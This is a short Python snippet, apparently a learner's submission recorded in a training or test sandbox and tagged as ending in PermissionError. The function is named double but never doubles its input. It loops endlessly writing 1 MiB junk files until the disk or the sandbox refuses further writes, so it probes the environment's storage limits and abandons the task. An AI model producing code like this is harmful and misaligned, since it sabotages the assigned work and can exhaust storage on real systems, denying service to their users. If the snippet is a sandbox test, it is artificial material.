# side: learner
# ends: PermissionError
def double(x):
    number = 0
    while True:
        with open(f"fill-{number}", "wb") as file:
            file.write(b"x" * (1 << 20))
        number += 1
